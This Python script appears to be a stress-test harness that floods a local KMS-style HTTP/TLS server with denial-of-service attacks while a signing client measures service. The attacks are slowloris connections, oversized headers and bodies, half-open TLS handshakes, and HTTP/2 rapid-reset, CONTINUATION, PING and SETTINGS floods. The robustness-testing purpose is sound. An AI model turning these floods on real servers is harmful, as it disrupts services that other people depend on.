"""Attacks on a server's sockets by strangers, while one client that signs measures how it is served.

    flood.py PORT ATTACK [--tls] [--admin PORT] [--pid PID]

Prints a line of JSON: what was attacked with, how many signed calls were answered and the slowest of them, and whether
the server still stands. ATTACK is a name below, or several joined by +.
"""
import hashlib, hmac, json, os, resource, select, socket, ssl, struct, sys, threading, time

HOST = '127.0.0.1'
KEY, SECRET, REGION = 'AKIAIOSFODNN7EXAMPLE', 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', 'us-east-2'
TYPE = 'application/x-amz-json-1.1'
MIB = 1 << 20
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)


def option(name, fallback=None):
    return sys.argv[sys.argv.index(name) + 1] if name in sys.argv else fallback


PORT, TLS = int(sys.argv[1]), '--tls' in sys.argv
ADMIN = int(option('--admin', 0))
SECONDS = float(option('--seconds', 6))
PID = int(option('--pid', 0))
SCALE = float(option('--scale', 1))
end = None


def context(*protocols):
    made = ssl.create_default_context()
    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
    if protocols:
        made.set_alpn_protocols(protocols)
    return made


PLAIN_CONTEXT = context()


def connect(port=PORT, timeout=20, tls=None):
    made = socket.create_connection((HOST, port), timeout)
    made.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return PLAIN_CONTEXT.wrap_socket(made) if (TLS if tls is None else tls) else made


# ---- a client that signs

def mac(key, text):
    return hmac.new(key, text.encode(), hashlib.sha256).digest()


def signed(operation, body, extra=''):
    now = time.strftime('%Y%m%dT%H%M%SZ', time.gmtime())
    scope = '%s/%s/kms/aws4_request' % (now[:8], REGION)
    target = 'TrentService.' + operation
    names = 'content-type;host;x-amz-date;x-amz-target'
    canonical = 'POST\n/\n\ncontent-type:%s\nhost:%s\nx-amz-date:%s\nx-amz-target:%s\n\n%s\n%s' % (
        TYPE, HOST, now, target, names, hashlib.sha256(body).hexdigest())
    text = 'AWS4-HMAC-SHA256\n%s\n%s\n%s' % (now, scope, hashlib.sha256(canonical.encode()).hexdigest())
    key = ('AWS4' + SECRET).encode()
    for part in scope.split('/'):
        key = mac(key, part)
    return ('POST / HTTP/1.1\r\nHost: %s\r\nContent-Type: %s\r\nX-Amz-Target: %s\r\nX-Amz-Date: %s\r\n'
            'Authorization: AWS4-HMAC-SHA256 Credential=%s/%s, SignedHeaders=%s, Signature=%s\r\n%s'
            'Content-Length: %d\r\n\r\n' % (HOST, TYPE, target, now, KEY, scope, names, mac(key, text).hex(), extra,
                                            len(body))).encode() + body


def answer(sock):
    got = b''
    while b'\r\n\r\n' not in got:
        more = sock.recv(65536)
        if not more:
            raise EOFError('closed after %r' % got[:80])
        got += more
    head, _, body = got.partition(b'\r\n\r\n')
    length = next(int(line.split(b':')[1]) for line in head.split(b'\r\n') if line.lower().startswith(b'content-length'))
    while len(body) < length:
        more = sock.recv(65536)
        if not more:
            raise EOFError('closed in a body')
        body += more
    return int(head.split()[1]), body


def call(operation='ListKeys', body=b'{}', sock=None):
    own = sock or connect()
    try:
        own.sendall(signed(operation, body))
        return answer(own)
    finally:
        if not sock:
            own.close()


class Watch:
    """New signed clients, one after the other, each on a connection of its own; a process of their own."""

    def __init__(self):
        self.read, write = os.pipe()
        self.child = os.fork()
        if self.child:
            os.close(write)
            return
        os.close(self.read)
        times, failures = [], []
        time.sleep(0.5)
        while time.monotonic() < end:
            start = time.monotonic()
            try:
                status, body = call()
                if status != 200:
                    raise EOFError('%d %r' % (status, body[:100]))
                times.append(time.monotonic() - start)
            except (OSError, EOFError) as e:
                failures.append(repr(e))
            time.sleep(0.05)
        os.write(write, json.dumps([sorted(times), failures[:500]]).encode())
        os._exit(0)

    def result(self):
        with os.fdopen(self.read) as out:
            got = out.read()
        os.waitpid(self.child, 0)
        return json.loads(got)


# ---- attacks: each holds what it has until the end

held = []
counts = {}


def hold(many, begin, port=PORT, tls=None, again=True):
    """Keeps `many` connections on which `begin` has been sent; those that are closed are opened again."""
    many = int(many * SCALE)
    poll = select.epoll()
    mine = {}
    held.append(mine)
    data = begin() if callable(begin) else begin

    def one():
        try:
            sock = connect(port, 5, tls)
            sock.setblocking(False)
            mine[sock.fileno()] = sock
            poll.register(sock.fileno(), select.EPOLLIN | select.EPOLLHUP | select.EPOLLERR)
            sent = 0
            while sent < len(data):
                sent += sock.send(data[sent:sent + 65536])
        except (BlockingIOError, ssl.SSLWantWriteError):
            pass
        except OSError:
            counts['refused'] = counts.get('refused', 0) + 1

    while len(mine) < many and time.monotonic() < end:
        one()
    counts['opened'] = counts.get('opened', 0) + len(mine)
    while time.monotonic() < end:
        for number, _ in poll.poll(0.05):
            sock = mine[number]
            try:
                if sock.recv(65536) == b'':
                    raise OSError('closed')
            except (BlockingIOError, ssl.SSLWantReadError):
                pass
            except OSError:
                counts['closed'] = counts.get('closed', 0) + 1
                del mine[number]
                poll.unregister(number)
                sock.close()
        for _ in range(min(200, many - len(mine)) if again else 0):
            one()
    counts['open'] = counts.get('open', 0) + len(mine)


def head(length):
    return ('POST / HTTP/1.1\r\nHost: x\r\nContent-Type: %s\r\nX-Amz-Target: TrentService.ListKeys\r\n'
            'Content-Length: %d\r\n\r\n' % (TYPE, length)).encode()


def silent():
    hold(1500, b'')


def idle():
    hold(10000, b'', again=False)


def bodies():
    hold(85, head(MIB) + b'{"a":"' + b'x' * (MIB - 100))


def many_bodies():
    hold(5000, head(MIB) + b'{"a":"' + b'x' * 60_000)


def headers():
    hold(2500, b'POST / HTTP/1.1\r\nHost: x\r\n' + b''.join(b'X-%d: %s\r\n' % (i, b'a' * 900) for i in range(33)))


def short_headers():
    hold(2500, b'POST / HTTP/1.1\r\nHost: x\r\n' + b'a:b\r\n' * 120)


def pipeline(many=64):
    request = b'GET /aaaaaaaaaaaaaaaaa HTTP/1.1\r\nHost: x\r\n\r\n'  # 47 bytes
    block, socks = request * 1300, []
    for _ in range(int(many * SCALE)):
        sock = connect()
        sock.setblocking(False)
        socks.append(sock)
    while time.monotonic() < end:
        _, ready, _ = select.select([], socks, [], 0.2)
        for sock in ready:
            try:
                sock.send(block)
            except (BlockingIOError, ssl.SSLWantWriteError):
                pass
            except OSError:
                socks.remove(sock)
                counts['closed'] = counts.get('closed', 0) + 1
    held.extend(socks)


def signing(many, operation, body):
    """`many` callers who sign, each with one request at a time."""

    def one():
        sock = None
        while time.monotonic() < end:
            try:
                if not sock:
                    sock = connect()
                    call(sock=sock)  # from here on it is known
                status, _ = call(operation, body, sock)
                counts['answer %d' % status] = counts.get('answer %d' % status, 0) + 1
            except (OSError, EOFError):
                counts['broken'] = counts.get('broken', 0) + 1
                sock = None

    threads = [threading.Thread(target=one, daemon=True) for _ in range(int(many * SCALE))]
    for each in threads:
        each.start()
    for each in threads:
        each.join()


def writes():
    signing(150, 'CreateKey', b'{"KeySpec":"RSA_2048","KeyUsage":"SIGN_VERIFY","Unknown":"' + b'x' * (MIB - 100) + b'"}')


def callers():
    signing(16, 'ListKeys', b'{"Unknown":"' + b'x' * 65_000 + b'"}')


def admin():
    hold(600, b'POST /metrics HTTP/1.1\r\nHost: x\r\nContent-Length: 900000\r\n\r\n' + b'x' * 900_000, ADMIN, False)


def admin_silent():
    hold(1500, b'', ADMIN, False)


def hello():
    """The first half of a handshake, and nothing after it."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        PLAIN_CONTEXT.wrap_bio(incoming, outgoing, server_hostname='x').do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def handshakes():
    hold(1500, hello, PORT, False)


def record():
    hold(1500, b'\x16\x03\x01\x3f\xff\x01\x00\x3f\xfb' + b'x' * 16000, PORT, False)


# ---- HTTP/2

def frame(kind, flags, stream, payload=b''):
    return struct.pack('>I', len(payload))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + payload


def literal(name, value):
    return b'\x00' + bytes([len(name)]) + name + bytes([len(value)]) + value


REQUEST = b'\x83\x87\x84' + literal(b':authority', b'x') + literal(b'content-type', TYPE.encode()) + literal(
    b'x-amz-target', b'TrentService.ListKeys')
PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(4, 0, 0)


def http2(many, blocks, read=True):
    """`many` connections, each sending what `blocks` yields; opened again when the server closes them."""

    def one():
        made = context('h2')
        while time.monotonic() < end:
            try:
                sock = made.wrap_socket(socket.create_connection((HOST, PORT), 5))
                counts['opened'] = counts.get('opened', 0) + 1
                sock.sendall(PREFACE)
                sock.settimeout(0.5)
                for block in blocks():
                    if time.monotonic() > end:
                        return
                    if block:
                        sock.sendall(block)
                    if read:
                        sock.setblocking(False)
                        try:
                            while sock.recv(65536):
                                pass
                            raise OSError('closed')
                        except (ssl.SSLWantReadError, BlockingIOError):
                            pass
                        sock.settimeout(0.5)
                    if not block:
                        time.sleep(0.2)
                while time.monotonic() < end:
                    time.sleep(0.1)
            except OSError:
                counts['closed'] = counts.get('closed', 0) + 1
                time.sleep(0.01)

    threads = [threading.Thread(target=one, daemon=True) for _ in range(int(many * SCALE))]
    for each in threads:
        each.start()
    for each in threads:
        each.join()


def h2_bodies():
    def blocks():
        for stream in range(1, 199, 2):
            yield frame(1, 4, stream, REQUEST)
            for _ in range(60):
                yield frame(0, 0, stream, b'x' * 16000)
        while True:
            yield frame(6, 0, 0, b'x' * 8)
            yield b''
    http2(9, blocks)


def h2_resets():
    def blocks():
        for base in range(1, 1 << 30, 2000):
            yield b''.join(frame(1, 5, s, REQUEST) + frame(3, 0, s, b'\0\0\0\x08') for s in range(base, base + 2000, 2))
    http2(8, blocks)


def h2_continuation():
    def blocks():
        yield frame(1, 0, 1, REQUEST)
        while True:
            yield frame(9, 0, 1, literal(b'a', b'b' * 100) * 10) * 20
    http2(8, blocks)


def h2_pings(read=True):
    def blocks():
        while True:
            yield frame(6, 0, 0, b'x' * 8) * 500
    http2(8, blocks, read)


def h2_settings():
    def blocks():
        while True:
            yield frame(4, 0, 0, b'\0\4\0\0\xff\xff' * 10) * 300
    http2(8, blocks, False)


def h2_empty_data():
    def blocks():
        yield frame(1, 4, 1, REQUEST)
        while True:
            yield frame(0, 0, 1) * 1000
    http2(8, blocks)


def h2_heads():
    """Heads of HTTP/2 that never end, each just below its limit."""
    def blocks():
        yield frame(1, 0, 1, REQUEST + literal(b'a', b'b' * 100) * 140)
        while True:
            yield b''
    http2(400, blocks)


def main():
    global end
    names = sys.argv[2].split('+')
    try:
        before = call()[0]
    except (OSError, EOFError) as e:
        before = repr(e)
    end = time.monotonic() + SECONDS
    watch = Watch()
    attacks = [threading.Thread(target=globals()[name], daemon=True) for name in names]
    for each in attacks:
        each.start()
    times, failures = watch.result()
    for each in attacks:
        each.join()
    try:
        after = call()[0]
    except (OSError, EOFError) as e:
        after = repr(e)
    print(json.dumps({
        'attack': '+'.join(names), 'before': before, 'after': after, 'served': len(times),
        'failed': len(failures), 'failures': failures[:2],
        'median': round(times[len(times) // 2], 3) if times else None,
        'slowest': round(times[-1], 3) if times else None,
        'alive': not PID or os.path.exists('/proc/%d' % PID), **counts}))


if __name__ == '__main__':
    main()
